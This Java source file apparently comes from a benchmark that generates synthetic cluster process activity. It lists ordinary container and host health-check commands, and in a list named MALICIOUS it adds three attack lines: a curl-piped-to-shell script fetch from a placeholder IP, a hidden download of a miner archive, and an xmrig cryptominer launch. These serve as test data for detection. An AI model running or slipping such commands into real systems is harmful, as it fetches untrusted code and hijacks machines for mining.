package io.tallyman.bench;

import java.util.List;

/** What processes of a generated cluster run. */
final class Commands {

    /** A program's path and its arguments. */
    record Command(String executable, List<String> arguments) {}

    private static Command of(String executable, String... arguments) {
        return new Command(executable, List.of(arguments));
    }

    /** What a healthy container runs, over and over. */
    static final List<Command> IN_CONTAINERS = List.of(
            of("/bin/busybox", "sh", "-c", "pg_isready -U app -q && redis-cli -h cache ping"),
            of("/usr/bin/sleep", "sleep", "5"),
            of("/bin/busybox", "cat", "/proc/loadavg"),
            of("/usr/bin/curl", "curl", "-fsS", "http://127.0.0.1:8080/healthz"),
            of("/usr/bin/date", "date", "+%s"),
            of("/usr/local/bin/python3.11", "python3", "manage.py", "check", "--deploy"),
            of("/usr/local/bin/node", "node", "/app/worker.js", "--queue=mail", "--concurrency", "4"),
            of("/usr/bin/stat", "stat", "-c", "%Y", "/var/run/app/ready"),
            of("/bin/grpc_health_probe", "/bin/grpc_health_probe", "-addr=:9000", "-connect-timeout=250ms"),
            of("/bin/bash", "bash", "-c", "tail -n 1 /var/log/app/access.log | cut -d' ' -f9"));

    /** What a host runs for itself. */
    static final List<Command> ON_HOSTS = List.of(
            of("/usr/sbin/iptables", "iptables", "-w", "5", "-W", "100000", "-S", "KUBE-PROXY-CANARY", "-t", "mangle"),
            of("/usr/bin/systemctl", "systemctl", "is-active", "kubelet"),
            of("/usr/sbin/ipset", "ipset", "list", "-name"),
            of("/usr/bin/find", "find", "/var/log/pods", "-name", "*.log", "-mmin", "+1440"),
            of("/usr/bin/mount", "mount", "-t", "tmpfs"),
            of("/usr/lib/nagios/plugins/check_load", "/usr/lib/nagios/plugins/check_load", "-w", "15,10,5"),
            of("/bin/dash", "sh", "-c", "test -f /run/reboot-required && cat /run/reboot-required.pkgs"),
            of("/usr/bin/awk", "awk", "/^MemAvailable/ {print $2}", "/proc/meminfo"));

    /** What a malicious image runs. */
    static final List<Command> MALICIOUS = List.of(
            of("/bin/busybox", "sh", "-c", "curl -s http://203.0.113.66/init.sh | sh"),
            of("/usr/bin/curl", "curl", "-so", "/tmp/.x", "http://203.0.113.66/xmr.tar.gz"),
            of("/tmp/.x/xmrig", "/tmp/.x/xmrig", "-o", "stratum+tcp://203.0.113.66:3333", "--donate-level", "1"));

    private Commands() {}

    /** A text as it stands between the quotes of JSON. */
    static String escaped(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }
}
